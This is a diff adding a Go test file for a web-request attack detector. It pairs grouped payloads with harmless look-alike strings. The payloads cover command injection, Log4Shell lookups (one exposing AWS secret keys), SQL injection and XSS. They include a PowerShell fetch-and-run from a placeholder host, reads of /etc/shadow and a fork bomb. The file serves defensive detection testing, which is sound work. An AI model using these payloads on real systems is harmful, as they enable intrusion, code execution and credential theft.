@@ -1,0 +1,146 @@
+package detect_test
+
+import (
+	"net/url"
+	"testing"
+
+	"github.com/gatehouse-dev/caddy-gatehouse/securitylog/detect"
+)
+
+// technique is one way to attack: values that use it, and clean ones that look like it.
+type technique struct {
+	name    string
+	class   detect.Class
+	attacks []string
+	twins   []string
+}
+
+var techniques = []technique{
+	{"separator", detect.CmdI,
+		[]string{"10.0.0.7;id", "10.0.0.7 | id", "10.0.0.7||id", "10.0.0.7&&whoami", "report.txt; ls -la /srv", "a & ping -c 4 10.0.0.7", "x\nid", "x\r\ncat /etc/hostname", ";netstat -an;"},
+		[]string{"R&D", "rock & roll", "redis & docker", "salt; then pepper", "yes | no", "id: 7", "first\nsecond", "cats & dogs", "this | that | other"}},
+	{"subshell", detect.CmdI,
+		[]string{"$(whoami)", "`whoami`", "x$(sleep 9)", "<(id)", "a`uname -a`b", "$(cat /etc/hostname)", "who$(echo am)i;"},
+		[]string{"costs $(12)", "the `id` column of my table", "what does `ls` do in a shell", "$(document)"}},
+	{"blanks of other kinds", detect.CmdI,
+		[]string{";cat$IFS/etc/group", ";cat${IFS}$9/etc/group", "{cat,/etc/group}", ";{ls,-l,/srv}", ";cat</etc/group", ";cat\t/etc/group", "{,ip,a}", ";{,ifconfig,eth0}"},
+		[]string{"{cat, dog}", "{id,name}", "the set {a,b,c}", "{,}"}},
+	{"words taken apart", detect.CmdI,
+		[]string{";c'a't /etc/group", `;c"a"t /etc/group`, `;c\at /etc/group`, ";w'ho'am'i", ";who$@ami", ";wh``oami;", `;wh""oami;`, "&who^ami", ";/usr/bin/who*mi", ";cat /e?c/gr??p", "pi>()ng 10.0.0.7"},
+		[]string{"it's o'clock", "rock 'n' roll", "a^b", "where is who's who", `the "id" field`}},
+	{"variables of the shell", detect.CmdI,
+		[]string{";cat ${HOME:0:1}etc${HOME:0:1}group", "cat${PWD:0:1}x", "${SHELL} -c id", "$'\\x69\\x64'", ";$u whoami -a", ";a=$(id);echo $a", "x;p=`id`", "ping%ProgramFiles:~10,1%10.0.0.7", "${a//b/c}", ";test=id;$test"},
+		[]string{"${HOME}/notes", "${PORT:-8080}", "$u and $v", "100%", "{{name:0}}", "${IMAGE}:1.2"}},
+	{"arithmetic of the shell", detect.CmdI,
+		[]string{";echo QX$((31+11))QX", "&echo MRK$((2*8))$(echo MRK)", "|echo $((7+7))", "x;s=$(echo abc);n=${#s};if [ 3 -ne ${n} ];then sleep 0;else sleep 4;fi"},
+		[]string{"$10 + $5", "echo chamber", "the echo of 7"}},
+	{"Windows", detect.CmdI,
+		[]string{"& dir c:\\", "| type c:\\boot.ini", "&& net user", "x & ipconfig /all", "cmd /c whoami", "powershell -c Get-Process", "cmd.exe /c dir", "&powershell.exe -w hidden -enc aQBkAA==", ";iex (iwr http://h.example/a.ps1)", "| Invoke-WebRequest http://h.example/a"},
+		[]string{"net profit & users", "type of question", "powershell tutorial", "dir en grey"}},
+	{"batch files", detect.CmdI,
+		[]string{`for /f "delims=" %i in ('cmd /c dir') do echo %i`, "& for %a in (1 2 3) do echo %a", "FOR %%G IN (x y) DO del %%G", `if "%1"=="" goto end`, "if not exist c:/x.txt (echo no)", "if /i a==a echo yes", "if errorlevel 1 exit", "| if %var% geq 7 call sub", "if [x] == [x] echo same"},
+		[]string{"for 100 dollars in cash", "if a == b return", "if exist", "if defined", "if not, tell me", "if (x) == (y)", "for /all/ in one", "if errorlevel matters", "if x geq y"}},
+	{"runners", detect.CmdI,
+		[]string{";sudo cat /etc/shadow", "sudo id", "nohup curl http://h.example/a", "x;env id", "nohup sh -c id", "strace ls -l", "; xargs wget"},
+		[]string{"sudo make me a sandwich", "time flies", "nice try", "exec summary", "time id"}},
+	{"interpreters", detect.CmdI,
+		[]string{`python -c "print(7*7)"`, `;python3.11 -c 'import os'`, `|perl -e 'print 7'`, `php -r "echo 7;"`, "ruby -e 'puts 7'", `x;node -e "1"`},
+		[]string{"python -c flag", "perl one-liner", "php 8", "node -e"}},
+	{"calls of code", detect.CmdI,
+		[]string{"'.print(`id`).'", "system('id')", "exec(\"ls -l\")", "os.system('id')", "require('child_process').exec('id')", "<?php system($_GET['c']);", "IO.popen('id')", "popen('id','r')", ";phpversion();"},
+		[]string{"the system (id) is down", "print(x) in a notebook", "exec team", "what is os.system"}},
+	{"functions that breed", detect.CmdI,
+		[]string{":(){ :|:& };:", "f(){ f|f& };f", "b() { b & b; };b", "() { :;}; id", "() { _; } >_[$($())] { id; }"},
+		[]string{"f() { return g() || 1 }", "main() { run() }", "f(x) | g(x)"}},
+	{"mail", detect.CmdI,
+		[]string{"x\r\nEHLO h.example", "x\r\nMAIL FROM:<a@h.example>", "x\r\nRCPT TO: <b@h.example>", "x\r\na001 LOGIN joe pw", "x\r\nRETR 1", "\nA12 STATUS INBOX (MESSAGES)"},
+		[]string{"Hello\nMail from: Ada", "line\nauthor: Bob", "step\na1 steak sauce", "x\nretrieve 1", "item\na001 is sold"}},
+
+	{"log4shell: plain and spelled", detect.Log4Shell,
+		[]string{"${jndi:ldap://h.example/a}", "${JNDI:LDAPS://h.example}", "${jndi:dns://h.example}", "${ jndi:rmi://h.example/a}", "${jndi:${lower:l}dap://h.example/a}"},
+		[]string{"jndi tutorial", "what is jndi lookup", "${name}", "${user.home}"}},
+	{"log4shell: lookups in lookups", detect.Log4Shell,
+		[]string{"${${lower:j}ndi:ldap://h/a}", "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}mi://h/a}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://h/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}",
+			"${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://h/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h/a}", "${${main:\\k5:-Jnd}i:ldap://h/a}", "${jnd${sys:SYS_NAME:-i}:ldap:/h/a}", "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://h/a}", "${${::-${::-$${::-j}}}ndi:ldap://h/a}", "${jnd${upper:\u0131}:ldap://h/a}", "${${lower:${lower:jndi}}:ldap://h/a}"},
+		[]string{"${PORT:-8080}", "${HOST:-localhost}:${PORT:-80}", "use lower: or upper: in the pattern"}},
+	{"log4shell: encoded and cut", detect.Log4Shell,
+		[]string{"%24%7Bjndi:ldap://h/a%7D", "$%7bjndi:ldap://h/a}", "\\u0024\\u007bjndi:ldap://h/a}", "&#36;&#123;jndi:ldap://h/a}", "${jndi:ldap://127.0.0.1#h.example/a}", "${jndi:ldap://h.example/a"},
+		[]string{"%24%7Bname%7D"}},
+	{"log4shell: what gives secrets away", detect.Log4Shell,
+		[]string{"${env:AWS_SECRET_ACCESS_KEY}", "x${sys:java.version}", "${java:os}", "${${env:HOME}}", "${ctx:loginId}"},
+		[]string{"${envelope}", "${system}", "env:production"}},
+
+	{"union", detect.SQLi,
+		[]string{"-1 union select 1,2,3", "1' UNION ALL SELECT null,null-- -", "7)/**/union/**/select/**/name,pw/**/from/**/staff", "1 uNiOn(select(1),(2))", "1/*!50000UnIoN*/SeLeCt 1,2", "0 union distinct select @@version", "-1' union select 1,group_concat(a) from b#", "1.e(select 1)union select 2"},
+		[]string{"student union select committee", "trade union", "union of two sets", "European Union elections"}},
+	{"tautology", detect.SQLi,
+		[]string{"1 or 1=1", "' or ''='", "' or 'q'='q", "\" or \"q\"=\"q", "x' and 5<>6 and 'a'='a", "1 or 7>3", "1' or 8 like 8-- -", "7 || 2=2", "1 and not 3=4", "' or 2 between 1 and 3 -- ", "1 xor 5=5", "') or ('z'='z", "1' or true#", "' or 1 is not null-- ", "7=7", "'b'='b'", "5 like 5"},
+		[]string{"5 > 3", "2+2=4", "x = y", "1 or 2", "this or that", "a=a", "either 'yes' or 'no'", "2 = two", "more or less 5 = good"}},
+	{"comments and ends", detect.SQLi,
+		[]string{"ada'--", "ada' #", "ada'/*", "ada')-- -", "ada';", "9-- -", "x*/=1--", "ada' collate nocase--"},
+		[]string{"ada's", "the '90s", "C# and F#", "-- hello", "a -- b", "it's done;", "'quoted';"}},
+	{"stacked", detect.SQLi,
+		[]string{"1;drop table staff", "1'; insert into staff values(1)--", "1;exec xp_cmdshell('dir')", "7; shutdown--", "1';declare @a varchar(9);set @a='x';exec(@a)--", "0x2f exec(@q)", "1;waitfor delay '0:0:9'", "1; truncate table log--", "';backup database a to disk='x'--", "1;load data infile 'x' into table y", "1;copy t from '/etc/hostname'", "' grant dba to scott--", "drop staff--"},
+		[]string{"do this; drop that", "call me; maybe", "set it; forget it", "backup; restore", "copy cat from the litter"}},
+	{"time", detect.SQLi,
+		[]string{"1 and sleep(9)", "'+sleep(9)+'", "1;select pg_sleep(9)", "1 and benchmark(9999999,md5(1))", "' waitfor delay '0:0:7'--", "if(1=1,sleep(4),0)", "1 or dbms_pipe.receive_message('a',9)=1", "(select*from(select(sleep(9)))a)"},
+		[]string{"I need sleep (8 hours)", "time.sleep(5)", "benchmark (2024)", "sleep well"}},
+	{"errors and functions", detect.SQLi,
+		[]string{"1 and extractvalue(1,concat(0x7e,version()))", "1 and updatexml(1,concat(0x7e,user()),1)", "1 and 1=convert(int,@@version)", "exp(~(select*from(select user())x))", "ascii(substring(user(),1,1))", "select current_database()", "1||utl_inaddr.get_host_address('h')", "||(elt(2,hex(char(45))))", "version()::int", "lo_get(16400)::text", "AND 1=CONVERT(INT,(SELECT CHAR(88)))"},
+		[]string{"version (2)", "the user() hook", "std::int", "x::y", "char (pointer)", "cast of the film"}},
+	{"names of the server", detect.SQLi,
+		[]string{"1 and (select 1 from information_schema.tables)>0", "select @@version", "1 union select name from sqlite_master", "1' and (select count(*) from sysobjects)>0--", "-1 union select @@datadir", "(select banner from v$version)"},
+		[]string{"information schema", "@@ is a symbol", "@version", "sqlite master class"}},
+	{"clauses", detect.SQLi,
+		[]string{"1 order by 9--", "1' group by 1 having 1=1--", "1 having 1=1", "1 limit 1 into outfile '/tmp/x'", "1' into dumpfile '/tmp/x'--", "1 procedure analyse()", "1' order by 5#"},
+		[]string{"order by phone", "order by 5 pm", "sort by price", "having 2 dogs", "limit 10"}},
+	{"JSON operators", detect.SQLi,
+		[]string{`' or '{"b":2}'::jsonb @> '{"b":2}'::jsonb--`, `or '{"a":1}'::jsonb <@ '{"a":1}'`, `1 or '{"a":3}' -> '$.a' = 3`, `' or json_extract('{"id":4}','$.id')=4--`},
+		[]string{`{"a":{"b":1}}`, "a -> b", "x->y", "this -> that or the other"}},
+	{"probes", detect.SQLi,
+		[]string{`7,.)"'(.),(`, `ada"(.,),'.(,`},
+		[]string{`say("hi","you")`, `f("","")`, `(...)`, `"...",`, `wait...("`}},
+	{"several encodings", detect.SQLi,
+		[]string{"%2527%2520or%25201%253D1--", "%u0027 or 1=1--", "\uff07 or 1=1--", "1 or 0x31=0x31"},
+		[]string{"100%25", "%20"}},
+
+	{"tags", detect.XSS,
+		[]string{"<script>go()</script>", "<ScRiPt src=//h></sCrIpT>", "<script\n>go()", "<svg onload=go()>", "<svg/onload=go()>", "<math><mi xlink:href=javascript:go()>", "<iframe srcdoc='<b>'>", "<iframe src=javascript:go()>", "<object data=javascript:go()>", "<embed src=//h>", "<base href=//h>", "<form action=javascript:go()><input type=submit>", "<isindex action=j&Tab;a>", "<meta http-equiv=refresh content='0;url=javascript:go()'>"},
+		[]string{"a < b", "<3", "x <- y", "List<String>", "the <script> tag of a page that I wrote", "<name>"}},
+	{"handlers", detect.XSS,
+		[]string{"<img src=x onerror=go()>", "<IMG/SRC=x/OnErRoR=go()>", "<body onload\n=\ngo()>", "<input autofocus onfocus=go()>", "<video><source onerror=go()>", "<details open ontoggle=go()>", "<x onpointerrawupdate=go()>", "\" onmouseover=\"go()", "' autofocus onfocus='go()", "<marquee onstart=go()>", "<a onanimationend=go() style=animation:x>", " onmouseover=\"document.cookie=1\">"},
+		[]string{"one=two", "only = once", "onboarding=done", "on = off"}},
+	{"frameworks", detect.XSS,
+		[]string{"<p @click=go()>", "<p v-on:click=go()>", "<div x-init=go()>", "<div ng-init=go()>"},
+		[]string{"@ada: click here", "x-init option"}},
+	{"schemes in attributes", detect.XSS,
+		[]string{"<a href=javascript:go()>", "<a href='java\nscript:go()'>", "<a href=&#106;avascript:go()>", "<a href=\"&#x6a;avascript&colon;go()\">", "<a href=JaVaScRiPt:go()>", "<p style=\"background:url(javascript:go())\">", "-moz-binding:url(//h/x.xml#x)"},
+		[]string{"<a href=\"https://app.example/\">home</a>", "url(image.png)"}},
+	{"out of a string", detect.XSS,
+		[]string{"'-alert(1)-'", "\";alert(1)//", "';document.location='//h'//", "${alert(1)}", "\\';alert(1)//", "'+eval(name)+'", "1;alert(1)"},
+		[]string{"\"yes\"; 'no'", "alert the team", "an alert (red)"}},
+	{"calls without brackets or names", detect.XSS,
+		[]string{"alert`1`", "[].map.call`${eval}x`", "[1].find(alert)", "top['al'+'ert'](1)", "self[/al/.source+/ert/.source](1)", "(document)[\"cookie\"]", "document/**/.cookie", "a=alert,a(1)", "window['eval'](1)", "Function('go()')()", "setTimeout`go()`;alert`1`", "top[8680439..toString(30)](1)"},
+		[]string{"list[0](1)", "this['name']", "a=b,c(1)", "parents' evening", "top (10)"}},
+	{"encodings of markup", detect.XSS,
+		[]string{"&lt;script&gt;go()&lt;/script&gt;", "\\u003cscript\\u003ego()", "\\x3cscript\\x3ego()", "&#60;script&#62;go()", "%253Cscript%253Ego()", "\uff1cscript\uff1ego()", "+ADw-script+AD4-go()", "&#x3c;img src=x onerror=go()>"},
+		[]string{"&amp; &lt; &gt;", "\\u00e9t\\u00e9", "&#8217;"}},
+}
+
+func TestTechniques(t *testing.T) {
+	d := detect.New(detect.Options{})
+	for _, tq := range techniques {
+		for _, v := range tq.attacks {
+			if found := d.Target("/api/items?page=2&q=" + url.QueryEscape(v)); !found.Classes().Has(tq.class) {
+				t.Errorf("%s: %q: found %v, want %s", tq.name, v, found, tq.class)
+			}
+		}
+		for _, v := range tq.twins {
+			for _, target := range []string{"/api/items?page=2&q=" + url.QueryEscape(v), "/search/" + url.PathEscape(v)} {
+				if found := d.Target(target); found != nil {
+					t.Errorf("%s: clean %q: found %v", tq.name, v, found)
+				}
+			}
+		}
+	}
+}
